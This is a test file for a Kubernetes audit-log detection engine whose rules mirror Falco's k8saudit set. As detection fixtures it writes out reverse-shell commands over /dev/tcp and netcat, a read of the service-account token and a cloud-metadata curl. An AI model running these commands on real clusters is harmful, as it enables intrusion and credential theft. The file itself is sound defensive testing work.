import { describe, expect, it } from 'vitest'
import { createEngine, RULES } from '../engine.ts'
import { type AuditEvent, emptyEvent } from '../event.ts'
import { createLists, type ListsInput } from '../lists.ts'

type Given = Partial<AuditEvent> & { lists?: ListsInput }

let count = 0
const eventOf = ({ lists: _, ...given }: Given): AuditEvent => ({
  ...emptyEvent('kubernetes'),
  id: `id-${++count}`,
  stage: 'ResponseComplete',
  level: 'RequestResponse',
  at: 1_795_000_000_000,
  user: 'alice',
  groups: ['dev', 'system:authenticated'],
  ip: '10.0.0.7',
  verb: 'create',
  namespace: 'shop',
  code: 201,
  decision: 'allow',
  ...given,
})
const fired = (given: Given): string[] =>
  createEngine(createLists(given.lists ?? {}))
    .judge(eventOf(given))
    .map(({ rule }) => rule.id)

const exec = (command: string, more: Given = {}): Given => ({
  resource: 'pods',
  subresource: 'exec',
  name: 'cart-1',
  stage: 'ResponseStarted',
  code: 101,
  uri: `/api/v1/namespaces/shop/pods/cart-1/exec?${command
    .split(' ')
    .map((word) => `command=${encodeURIComponent(word)}`)
    .join('&')}&stdin=true`,
  ...more,
})
const pod = (spec: object, more: Given = {}): Given => ({
  resource: 'pods',
  request: { kind: 'Pod', metadata: { name: 'p' }, spec: { containers: [{ name: 'c', image: 'nginx:1.27' }], ...spec } },
  ...more,
})
const container = (of: object) => ({
  containers: [
    { name: 'a', image: 'nginx' },
    { name: 'b', image: 'other', ...of },
  ],
})
const role = (rule: object, more: Given = {}): Given => ({
  resource: 'clusterroles',
  apiGroup: 'rbac.authorization.k8s.io',
  namespace: '',
  name: 'r',
  request: { rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['get'], ...rule }] },
  ...more,
})
const binding = (name: string, more: Given = {}, subjects: object[] = [{ kind: 'User', name: 'bob' }]): Given => ({
  resource: 'clusterrolebindings',
  namespace: '',
  name: 'b',
  request: { roleRef: { kind: 'ClusterRole', name }, subjects },
  ...more,
})
const csr = (subject: string) => btoa(`-----BEGIN CERTIFICATE REQUEST-----\n${btoa(`0${subject}0`)}\n-----END CERTIFICATE REQUEST-----\n`)
const controller = 'system:serviceaccount:kube-system:replicaset-controller'
const made = (resource: string, more: Given = {}): Given => ({ resource, ...more })
const removed = (resource: string, more: Given = {}): Given => ({ resource, verb: 'delete', code: 200, ...more })
const denied = { code: 403, decision: 'forbid' } as const

/** For each rule what must fire it and what must not, though it looks alike. */
const CASES: Record<string, { fires: Given[]; quiet: Given[] }> = {
  'pod-exec': {
    fires: [exec('ls'), exec('sh', { verb: 'get' }), exec('ls', { stage: 'ResponseComplete' }), exec('ls', { user: controller })],
    quiet: [
      exec('ls', denied),
      exec('ls', { stage: 'RequestReceived' }),
      exec('ls', { resource: 'pods', subresource: 'log' }),
      exec('ls', { lists: { execUsers: ['alice'] } }),
    ],
  },
  'pod-exec-reverse-shell': {
    fires: [exec('bash -c bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'), exec('nc 1.2.3.4 44 -e /bin/sh')],
    quiet: [exec('nc -z db 5432')],
  },
  'pod-exec-credentials': {
    fires: [exec('cat /var/run/secrets/kubernetes.io/serviceaccount/token'), exec('curl http://169.254.169.254/latest/meta-data/')],
    quiet: [exec('cat /etc/hosts')],
  },
  'pod-copy': { fires: [exec('tar cf - /etc/app'), exec('tar -xmf - -C /tmp')], quiet: [exec('tar --version'), exec('start cf')] },
  'pod-attach': { fires: [exec('', { subresource: 'attach' }), exec('', { subresource: 'attach', verb: 'get' })], quiet: [exec('ls')] },
  'pod-connect-refused': { fires: [exec('ls', { ...denied, stage: 'ResponseComplete' })], quiet: [exec('ls', { stage: 'ResponseComplete' })] },
  'pod-port-forward': { fires: [exec('', { subresource: 'portforward', verb: 'get' })], quiet: [exec('', { subresource: 'portforward', ...denied })] },
  'pod-debug-container': {
    fires: [made('pods', { subresource: 'ephemeralcontainers', verb: 'patch', code: 200 })],
    quiet: [made('pods', { subresource: 'ephemeralcontainers', verb: 'get', code: 200 })],
  },
  'node-proxy-exec': {
    fires: [
      made('nodes', { subresource: 'proxy', verb: 'get', code: 101, uri: '/api/v1/nodes/n1/proxy/exec/shop/cart/c?command=id' }),
      made('nodes', { subresource: 'proxy', code: 200, uri: '/api/v1/nodes/n1/proxy/run/shop/cart/c' }),
    ],
    quiet: [made('nodes', { subresource: 'proxy', verb: 'get', code: 200, uri: '/api/v1/nodes/n1/proxy/metrics' })],
  },
  'node-proxy': {
    fires: [made('nodes', { subresource: 'proxy', verb: 'get', code: 200, uri: '/api/v1/nodes/n1/proxy/configz' })],
    quiet: [made('nodes', { verb: 'get', code: 200, uri: '/api/v1/nodes/n1' })],
  },
  'pod-disallowed-image': {
    fires: [pod({}, { lists: { allowedImages: ['httpd'] } }), pod(container({}), { lists: { allowedImages: ['nginx'] } })],
    quiet: [pod({}), pod({}, { lists: { allowedImages: ['docker.io/library/nginx'] } }), pod({}, { lists: { allowedImages: ['nginx'] }, ...denied })],
  },
  'pod-privileged': {
    fires: [
      pod(container({ securityContext: { privileged: true } })),
      pod({ initContainers: [{ image: 'x', securityContext: { privileged: true } }] }),
      made('deployments', { request: { spec: { template: { spec: container({ securityContext: { privileged: true } }) } } } }),
      made('daemonsets', {
        verb: 'patch',
        code: 200,
        request: [{ op: 'add', path: '/spec/template/spec/containers/0/securityContext', value: { privileged: true } }],
      }),
    ],
    quiet: [
      pod(container({ securityContext: { privileged: false } })),
      pod(container({ image: 'nginx@sha256:abc', securityContext: { privileged: true } }), { lists: { trustedImages: ['nginx'] } }),
      pod(container({ securityContext: { privileged: true } }), { verb: 'update', code: 200 }),
    ],
  },
  'pod-capabilities': {
    fires: [
      pod(container({ securityContext: { capabilities: { add: ['SYS_ADMIN'] } } })),
      pod(container({ securityContext: { capabilities: { add: ['CAP_BPF'] } } })),
    ],
    quiet: [pod(container({ securityContext: { capabilities: { add: ['NET_BIND_SERVICE'], drop: ['ALL'] } } }))],
  },
  'pod-sensitive-mount': {
    fires: ['/', '/etc', '/var/run/docker.sock', '/run/containerd/containerd.sock', '/etc/kubernetes/pki', '/tmp/../etc', '//proc/1'].map((path) =>
      pod({ volumes: [{ name: 'v', hostPath: { path } }] }),
    ),
    quiet: ['/data', '/var/log', '/etc/localtime', '/tmp', '/opt/etc'].map((path) => pod({ volumes: [{ name: 'v', hostPath: { path } }] })),
  },
  'pod-host-network': {
    fires: [pod({ hostNetwork: true })],
    quiet: [pod({ hostNetwork: false }), pod({ hostNetwork: true }, { lists: { hostNetworkImages: ['nginx'] } })],
  },
  'pod-host-pid': { fires: [pod({ hostPID: true })], quiet: [pod({ hostNetwork: true })] },
  'pod-host-ipc': { fires: [pod({ hostIPC: true })], quiet: [pod({ hostPID: true })] },
  'pod-in-system-namespace': {
    fires: [pod({}, { namespace: 'kube-system' }), pod({}, { namespace: 'kube-public', user: controller })],
    quiet: [pod({}), pod({ containers: [{ image: 'registry.k8s.io/kube-proxy:v1' }] }, { namespace: 'kube-system' })],
  },
  'workload-in-system-namespace': {
    fires: [made('daemonsets', { namespace: 'kube-system' })],
    quiet: [made('daemonsets', { namespace: 'kube-system', user: 'system:serviceaccount:kube-system:x' }), made('daemonsets')],
  },
  'pod-controller-account': {
    fires: [pod({ serviceAccountName: 'daemon-set-controller' }, { namespace: 'kube-system' })],
    quiet: [pod({ serviceAccountName: 'default' }, { namespace: 'kube-system' })],
  },
  'service-node-port': {
    fires: [made('services', { request: { spec: { type: 'NodePort' } } })],
    quiet: [
      made('services', { request: { spec: { type: 'ClusterIP' } } }),
      made('services', { name: 'edge', request: { spec: { type: 'NodePort' } }, lists: { nodePortServices: ['edge'] } }),
      made('services', { request: { spec: { type: 'NodePort' } }, verb: 'get' }),
    ],
  },
  'ingress-without-tls': {
    fires: [made('ingresses', { request: { spec: { rules: [] } } })],
    quiet: [made('ingresses', { request: { spec: { tls: [{ hosts: ['a'] }] } } })],
  },
  'configmap-credentials': {
    fires: [
      made('configmaps', { request: { data: { DB_PASSWORD: 'hunter2' } } }),
      made('configmaps', { request: { data: { 'app.conf': 'user = x\naws_access_key_id = AK\n' } } }),
      made('configmaps', { request: { data: { k: '-----BEGIN RSA PRIVATE KEY-----\nxx' } } }),
      made('configmaps', { verb: 'patch', code: 200, request: { data: { passphrase: 'x' } } }),
    ],
    quiet: [
      made('configmaps', { request: { data: { 'ui.properties': 'color.good=purple\nallow.textmode=true' } } }),
      made('configmaps', { request: { data: { PASSWORD: `\${PASSWORD}` } } }),
      made('configmaps', { request: { data: { bypassed: 'yes', compass: 'north' } } }),
    ],
  },
  'secret-read': {
    fires: [made('secrets', { verb: 'get', code: 200 }), made('secrets', { verb: 'get', code: 200, user: 'system:node:n1' })],
    quiet: [made('secrets', { verb: 'get', code: 404 }), made('secrets', { verb: 'list', code: 200 }), made('configmaps', { verb: 'get', code: 200 })],
  },
  'secret-read-refused': { fires: [made('secrets', { verb: 'get', ...denied })], quiet: [made('secrets', { verb: 'get', code: 200 })] },
  'secrets-listed': {
    fires: [made('secrets', { verb: 'list', code: 200, namespace: '' }), made('secrets', { verb: 'watch', code: 200, namespace: 'kube-system' })],
    quiet: [made('secrets', { verb: 'list', code: 200 }), made('secrets', { verb: 'list', namespace: '', ...denied })],
  },
  'secrets-listed-namespace': { fires: [made('secrets', { verb: 'list', code: 200 })], quiet: [made('secrets', { verb: 'list', code: 200, namespace: '' })] },
  'secret-token-read': {
    fires: [made('secrets', { verb: 'get', code: 200, name: 'default-token-g2sp7' })],
    quiet: [
      made('secrets', { verb: 'get', code: 200, name: 'my-token' }),
      made('secrets', { verb: 'get', code: 200, name: 'default-token-g2sp7', user: 'system:node:n' }),
    ],
  },
  'token-minted': {
    fires: [made('serviceaccounts', { subresource: 'token' }), made('serviceaccounts', { subresource: 'token', user: 'system:serviceaccount:shop:cart' })],
    quiet: [made('serviceaccounts', { subresource: 'token', user: 'system:node:n1' }), made('serviceaccounts')],
  },
  'token-secret-created': {
    fires: [made('secrets', { request: { type: 'kubernetes.io/service-account-token' } })],
    quiet: [
      made('secrets', { request: { type: 'Opaque' } }),
      made('secrets', { request: { type: 'kubernetes.io/service-account-token' }, user: 'system:kube-controller-manager' }),
    ],
  },
  'csr-created': {
    fires: [made('certificatesigningrequests', { namespace: '' })],
    quiet: [
      made('certificatesigningrequests', { user: 'system:node:n1' }),
      made('certificatesigningrequests', { groups: ['system:bootstrappers'], user: 'system:bootstrap:abc' }),
    ],
  },
  'csr-approved': {
    fires: [made('certificatesigningrequests', { subresource: 'approval', verb: 'update', code: 200 })],
    quiet: [made('certificatesigningrequests', { subresource: 'approval', verb: 'update', code: 200, user: 'system:kube-controller-manager' })],
  },
  'csr-privileged': {
    fires: [made('certificatesigningrequests', { request: { spec: { request: csr('system:masters') } } })],
    quiet: [
      made('certificatesigningrequests', { request: { spec: { request: csr('dev') } } }),
      made('certificatesigningrequests', { request: { spec: { request: '%%%' } } }),
    ],
  },
  impersonation: {
    fires: [made('pods', { impersonated: 'system:admin' }), made('pods', { impersonated: 'bob', impersonatedGroups: ['system:masters'] })],
    quiet: [made('pods', { impersonated: 'bob' }), made('pods')],
  },
  'impersonation-refused': { fires: [made('users', { impersonated: 'bob', ...denied })], quiet: [made('users', { ...denied })] },
  'anonymous-allowed': {
    fires: [made('namespaces', { user: 'system:anonymous', uri: '/api/v1/namespaces' })],
    quiet: [
      made('', { user: 'system:anonymous', verb: 'get', code: 200, uri: '/healthz?timeout=32s' }),
      made('', { user: 'system:anonymous', verb: 'get', uri: '/readyz', code: 200 }),
      made('pods', { user: 'system:anonymous', ...denied }),
      made('pods', { user: 'alice' }),
    ],
  },
  'anonymous-refused': { fires: [made('pods', { user: 'system:anonymous', ...denied })], quiet: [made('pods', denied)] },
  'user-disallowed': {
    fires: [made('pods', { user: 'mallory' }), made('pods', { user: 'mallory', impersonated: 'kubernetes-admin' })],
    quiet: [made('pods', { user: 'kubernetes-admin' }), made('pods', { user: controller }), made('pods', { lists: { allowedUsers: ['alice'] } })],
  },
  'admin-account-used': {
    fires: [made('pods', { user: 'kubernetes-admin', lists: { allowedAdmins: ['root'] } })],
    quiet: [made('pods', { user: 'kubernetes-admin' }), made('pods', { user: 'alice', lists: { allowedAdmins: [] } })],
  },
  'self-review': { fires: [made('selfsubjectaccessreviews', { user: 'system:serviceaccount:shop:cart' })], quiet: [made('selfsubjectaccessreviews')] },
  'cluster-admin-granted': {
    fires: [binding('cluster-admin'), binding('cluster-admin', { resource: 'rolebindings', namespace: 'shop' })],
    quiet: [binding('view'), binding('cluster-admin', denied)],
  },
  'strangers-bound': {
    fires: [binding('view', {}, [{ kind: 'Group', name: 'system:unauthenticated' }])],
    quiet: [binding('view', {}, [{ kind: 'Group', name: 'dev' }])],
  },
  'role-wildcard': {
    fires: [role({ verbs: ['*'] }), role({ resources: ['*'] }, { resource: 'roles' })],
    quiet: [role({}), role({ verbs: ['*'] }, { verb: 'get' })],
  },
  'role-write': { fires: [role({ verbs: ['get', 'patch'] })], quiet: [role({ verbs: ['get', 'list', 'watch'] })] },
  'role-pod-exec': { fires: [role({ resources: ['pods', 'pods/exec'] })], quiet: [role({ resources: ['pods/log'] })] },
  'role-node-proxy': { fires: [role({ resources: ['nodes/proxy'] })], quiet: [role({ resources: ['nodes'] })] },
  'role-escalation': { fires: [role({ verbs: ['impersonate'] })], quiet: [role({ verbs: ['create'] })] },
  'role-widened': { fires: [role({ verbs: ['*'] }, { verb: 'patch', code: 200 })], quiet: [role({ verbs: ['*'] })] },
  'system-role-changed': {
    fires: [role({}, { name: 'system:node', verb: 'patch', code: 200 }), removed('clusterroles', { name: 'system:kube-aggregator' })],
    quiet: [role({}, { name: 'mine' }), role({}, { name: 'system:coredns' }), role({}, { name: 'system:node', ...denied })],
  },
  'system-binding-changed': { fires: [removed('clusterrolebindings', { name: 'system:node' })], quiet: [removed('clusterrolebindings', { name: 'mine' })] },
  'system-serviceaccount': {
    fires: [
      made('serviceaccounts', { namespace: 'kube-system', name: 'helper' }),
      made('serviceaccounts', { namespace: 'kube-public', request: { metadata: { name: 'x' } } }),
    ],
    quiet: [made('serviceaccounts', { name: 'helper' }), made('serviceaccounts', { namespace: 'kube-system', name: 'coredns' })],
  },
  'namespace-disallowed': {
    fires: [made('namespaces', { name: 'foo' })],
    quiet: [made('namespaces', { name: 'default' }), made('namespaces', { name: 'foo', lists: { allowedNamespaces: ['foo'] } })],
  },
  'node-untrusted': {
    fires: [made('nodes', { name: 'n9', lists: { allowedNodes: ['n1'] } })],
    quiet: [made('nodes', { name: 'n9' }), made('nodes', { name: 'n1', lists: { allowedNodes: ['n1'] } })],
  },
  'node-untrusted-refused': {
    fires: [made('nodes', { name: 'n9', lists: { allowedNodes: ['n1'] }, ...denied })],
    quiet: [made('nodes', { name: 'n9', lists: { allowedNodes: ['n1'] } })],
  },
  'webhook-changed': {
    fires: [made('validatingwebhookconfigurations', { verb: 'patch', code: 200 }), removed('mutatingwebhookconfigurations')],
    quiet: [made('validatingwebhookconfigurations', { verb: 'get', code: 200 })],
  },
  'apiservice-changed': { fires: [made('apiservices')], quiet: [made('apiservices', { user: 'system:kube-aggregator' })] },
  'dns-changed': {
    fires: [made('configmaps', { namespace: 'kube-system', name: 'coredns', verb: 'update', code: 200 })],
    quiet: [made('configmaps', { name: 'coredns', verb: 'update', code: 200 })],
  },
  'login-map-changed': {
    fires: [made('configmaps', { namespace: 'kube-system', name: 'aws-auth', verb: 'patch', code: 200 })],
    quiet: [made('configmaps', { namespace: 'kube-system', name: 'aws-auth', verb: 'get' })],
  },
  'events-deleted': { fires: [removed('events')], quiet: [made('events')] },
  'namespace-protected-deleted': { fires: [removed('namespaces', { name: 'kube-system' })], quiet: [removed('namespaces', { name: 'kubeflow' })] },
  'collection-deleted': { fires: [removed('pods', { verb: 'deletecollection' })], quiet: [removed('pods')] },
  'deployment-created': { fires: [made('deployments')], quiet: [made('deployments', { subresource: 'scale' }), made('deployments', { code: 409 })] },
  'deployment-deleted': { fires: [removed('deployments')], quiet: [removed('deployments', { code: 404 })] },
  'service-created': { fires: [made('services')], quiet: [made('services', { lists: { activity: false } })] },
  'service-deleted': { fires: [removed('services')], quiet: [removed('services', denied)] },
  'configmap-created': { fires: [made('configmaps')], quiet: [made('configmaps', { verb: 'update' })] },
  'configmap-deleted': { fires: [removed('configmaps')], quiet: [removed('secrets')] },
  'namespace-created': { fires: [made('namespaces')], quiet: [made('namespaces', { verb: 'get' })] },
  'namespace-deleted': { fires: [removed('namespaces')], quiet: [removed('namespaces', { user: 'system:serviceaccount:kube-system:namespace-controller' })] },
  'serviceaccount-created': { fires: [made('serviceaccounts')], quiet: [made('serviceaccounts', { subresource: 'token' })] },
  'serviceaccount-deleted': { fires: [removed('serviceaccounts')], quiet: [removed('serviceaccounts', { code: 404 })] },
  'role-created': { fires: [role({}, { resource: 'roles' })], quiet: [role({}), role({}, { resource: 'roles', verb: 'update' })] },
  'role-deleted': { fires: [removed('roles')], quiet: [removed('rolebindings'), removed('clusterroles')] },
  'clusterrole-created': { fires: [role({})], quiet: [role({}, { resource: 'roles' }), role({}, { verb: 'update' })] },
  'clusterrole-deleted': { fires: [removed('clusterroles')], quiet: [removed('roles'), removed('clusterroles', { code: 404 })] },
  'binding-created': { fires: [binding('view', { resource: 'rolebindings' })], quiet: [role({}), binding('view')] },
  'binding-deleted': { fires: [removed('rolebindings')], quiet: [removed('roles'), removed('clusterrolebindings')] },
  'cluster-binding-created': { fires: [binding('view')], quiet: [role({}), binding('view', { resource: 'rolebindings' })] },
  'cluster-binding-deleted': { fires: [removed('clusterrolebindings')], quiet: [removed('clusterroles'), removed('rolebindings')] },
  'secret-created': {
    fires: [made('secrets')],
    quiet: [made('secrets', { namespace: 'kube-system' }), made('secrets', { user: 'system:kube-controller-manager' })],
  },
  'secret-deleted': { fires: [removed('secrets')], quiet: [removed('secrets', { namespace: 'kube-system' })] },
  event: { fires: [made('pods', { verb: 'list', lists: { allEvents: true } })], quiet: [made('pods', { verb: 'list' })] },
}

describe('rules', () => {
  it('each has a case that must fire and one that must not', () => {
    expect(Object.keys(CASES).sort()).toEqual(RULES.map(({ id }) => id).sort())
  })

  it.each(Object.entries(CASES))('%s', (id, { fires, quiet }) => {
    for (const given of fires) expect(fired(given), JSON.stringify(given)).toContain(id)
    for (const given of quiet) expect(fired(given), JSON.stringify(given)).not.toContain(id)
  })

  /** https://github.com/falcosecurity/plugins/tree/main/plugins/k8saudit/rules, and the names that older versions had. */
  const KINDS = ['Deployment', 'Service', 'ConfigMap', 'Namespace', 'Serviceaccount', 'Role', 'ClusterRole', 'RoleBinding', 'ClusterRoleBinding', 'Secret']
  const FALCO = [
    ['Disallowed K8s User', 'Create Disallowed Pod', 'Create Privileged Pod', 'Create Sensitive Mount Pod', 'Create HostNetwork Pod', 'Create HostPid Pod'],
    ['Create HostIPC Pod', 'Create NodePort Service', 'Create/Modify Configmap With Private Credentials', 'Anonymous Request Allowed', 'Attach/Exec Pod'],
    ['port-forward', 'EphemeralContainers Created', 'Create Disallowed Namespace', 'Pod Created in Kube Namespace', 'All K8s Audit Events'],
    ['Service Account Created in Kube Namespace', 'System ClusterRole Modified/Deleted', 'Attach to cluster-admin Role', 'ClusterRole With Wildcard Created'],
    ['ClusterRole With Write Privileges Created', 'ClusterRole With Pod Exec Created', 'K8s Secret Get Successfully', 'K8s Secret Get Unsuccessfully Tried'],
    ['Full K8s Administrative Access', 'Ingress Object without TLS Certificate Created', 'Untrusted Node Successfully Joined the Cluster'],
    ['Untrusted Node Unsuccessfully Tried to Join the Cluster'],
    [...KINDS, 'Role/Clusterrole', 'Role/Clusterrolebinding'].flatMap((kind) => [`K8s ${kind} Created`, `K8s ${kind} Deleted`]),
  ].flat()

  it("carry every name of Falco's set, and no name that is not there", () => {
    const ours = new Set(RULES.flatMap(({ aliases }) => aliases).filter((alias) => alias.startsWith('falco/')))
    expect(FALCO.filter((name) => !ours.has(`falco/${name}`))).toEqual([])
    // spellings of versions in between
    const between = ['K8s Role/Clusterrole Binding Created', 'K8s Role/Clusterrole Binding Deleted', 'Ingress Object Without TLS Certificate Created']
    expect([...ours].filter((alias) => ![...FALCO, ...between].includes(alias.slice('falco/'.length)))).toEqual([])
  })

  it('fire once for one exec, whichever of its kinds it is', () => {
    const engine = createEngine(createLists())
    const commands = ['ls', 'tar cf - /x', 'cat /var/run/secrets/x', 'bash -i >& /dev/tcp/1.1.1.1/1']
    for (const command of commands) {
      const started = eventOf(exec(command, { user: 'kubernetes-admin' }))
      const hits = [started, { ...started, stage: 'ResponseComplete' as const, code: 200 }, started].flatMap((event) => engine.judge(event))
      expect(hits.map(({ rule }) => rule.aliases[0])).toEqual(['falco/Attach/Exec Pod'])
    }
  })

  it('tell two requests apart that were given one auditID', () => {
    const engine = createEngine(createLists())
    const of = (received: string) => engine.judge(eventOf(exec('ls', { id: 'chosen', received, user: 'kubernetes-admin' }))).length
    expect([of('2026-11-23T20:00:00.000001Z'), of('2026-11-23T20:00:00.000001Z'), of('2026-11-23T20:00:09.000002Z')]).toEqual([1, 0, 1])
  })

  it('do not let the platform at its ordinary work raise an alarm', () => {
    const alarm = (given: Given) =>
      createEngine(createLists())
        .judge(eventOf(given))
        .some(({ alarm }) => alarm)
    expect(alarm(made('secrets', { verb: 'get', code: 200, user: 'system:node:n1' }))).toBe(false)
    expect(alarm(made('secrets', { verb: 'get', code: 200, user: 'kubernetes-admin' }))).toBe(true)
    expect(alarm(role({}, { name: 'system:node', verb: 'update', code: 200, user: 'system:apiserver' }))).toBe(false)
    expect(alarm(role({}, { name: 'system:metrics-server', verb: 'patch', code: 200, user: 'kubernetes-admin' }))).toBe(false)
    expect(alarm(made('', { user: 'system:anonymous', verb: 'get', code: 200, uri: '/version' }))).toBe(false)
    expect(alarm(made('', { user: 'system:anonymous', verb: 'get', code: 200, uri: '/metrics' }))).toBe(true)
    expect(alarm(exec('ls', { user: 'system:serviceaccount:shop:cart' }))).toBe(true)
  })
})
